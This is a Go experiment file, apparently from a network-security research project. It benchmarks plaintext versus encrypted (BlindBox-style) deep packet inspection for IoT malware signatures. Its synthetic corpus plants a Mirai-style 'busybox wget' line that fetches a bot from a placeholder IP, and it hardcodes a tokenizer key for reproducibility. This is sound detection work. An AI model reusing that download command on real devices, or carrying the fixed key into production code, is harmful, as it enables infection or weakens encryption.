package exp

import (
	"fmt"

	"xlf/internal/dpi"
	"xlf/internal/metrics"
)

// runE4 measures the price of privacy-preserving traffic monitoring:
// matching throughput of plaintext Aho-Corasick versus BlindBox-style
// searchable-encryption token matching over the same payload corpus, plus
// detection equivalence between the two paths.
//
// It is the E4 registry entry; all three matching stages are timed on
// the env clock, so the stages stay sequential (they share the clock).
func runE4(env *Env) *Result {
	r := &Result{ID: "E4", Title: "Encrypted DPI: plaintext vs searchable-encryption matching"}
	rs, err := dpi.NewRuleSet(dpi.IoTMalwareRules())
	if err != nil {
		panic(err)
	}
	//xlf:allow-cryptomisuse E4 reproduces the encrypted-DPI experiment; the tokenizer key must be fixed so detection counts are byte-reproducible across runs. Reviewed 2026-08.
	tk, err := dpi.NewTokenizer([]byte("e4-session-key"))
	if err != nil {
		panic(err)
	}
	det, err := dpi.NewEncryptedDetector(rs, tk)
	if err != nil {
		panic(err)
	}

	// Corpus: benign payloads with signatures planted in ~20%.
	rng := env.Rand()
	const nPayloads = 400
	payloads := make([][]byte, nPayloads)
	infected := make([]bool, nPayloads)
	var totalBytes int
	for i := range payloads {
		var p []byte
		for j := 0; j < 3+rng.Intn(5); j++ {
			chunk := make([]byte, 20+rng.Intn(80))
			for k := range chunk {
				chunk[k] = byte('a' + rng.Intn(26))
			}
			p = append(p, chunk...)
		}
		if rng.Float64() < 0.2 {
			infected[i] = true
			// Plant a full mirai-loader signature pair.
			p = append(p, []byte("/bin/busybox ")...)
			p = append(p, []byte("wget http://203.0.113.9/bot ")...)
		}
		payloads[i] = p
		totalBytes += len(p)
	}

	// Plaintext path.
	plainHits := 0
	plainSec := env.timeSection(func() {
		for _, p := range payloads {
			if len(rs.MatchPlain(p)) > 0 {
				plainHits++
			}
		}
	}).Seconds()

	// Tokenisation cost (endpoint side).
	tokens := make([][]uint64, nPayloads)
	tokenizeSec := env.timeSection(func() {
		for i, p := range payloads {
			tokens[i] = tk.Tokenize(p)
		}
	}).Seconds()

	// Encrypted matching (middlebox side).
	encHits := 0
	encSec := env.timeSection(func() {
		for _, ts := range tokens {
			if len(det.MatchTokens(ts)) > 0 {
				encHits++
			}
		}
	}).Seconds()

	var conf metrics.Confusion
	for i := range payloads {
		conf.Record(len(det.MatchTokens(tokens[i])) > 0, infected[i])
	}

	mbps := func(sec float64) float64 {
		if sec <= 0 {
			return 0
		}
		return float64(totalBytes) / sec / 1e6
	}
	t := metrics.NewTable("", "Path", "Throughput MB/s", "Detections")
	t.AddRow("plaintext AC", fmt.Sprintf("%.1f", mbps(plainSec)), fmt.Sprint(plainHits))
	t.AddRow("tokenize (endpoint)", fmt.Sprintf("%.1f", mbps(tokenizeSec)), "-")
	t.AddRow("encrypted match (middlebox)", fmt.Sprintf("%.1f", mbps(encSec)), fmt.Sprint(encHits))

	// The encrypted path's end-to-end rate is bounded by its slowest
	// stage — in BlindBox-style designs that is endpoint tokenisation.
	effEnc := mbps(tokenizeSec)
	if m := mbps(encSec); m < effEnc {
		effEnc = m
	}
	slowdown := 0.0
	if effEnc > 0 {
		slowdown = mbps(plainSec) / effEnc
	}
	r.Output = t.String() + fmt.Sprintf(
		"\ndetection vs ground truth over tokens: %s\n"+
			"encrypted path effective throughput %.1f MB/s (bottleneck: endpoint tokenisation)\n"+
			"plaintext inspection is %.1fx faster — the privacy price of not breaking TLS\n",
		conf, effEnc, slowdown)
	r.num("plain_mbps", mbps(plainSec))
	r.num("enc_mbps", effEnc)
	r.num("equal_detections", boolTo01(plainHits == encHits))
	r.num("recall", conf.Recall())
	return r
}

func boolTo01(b bool) float64 {
	if b {
		return 1
	}
	return 0
}
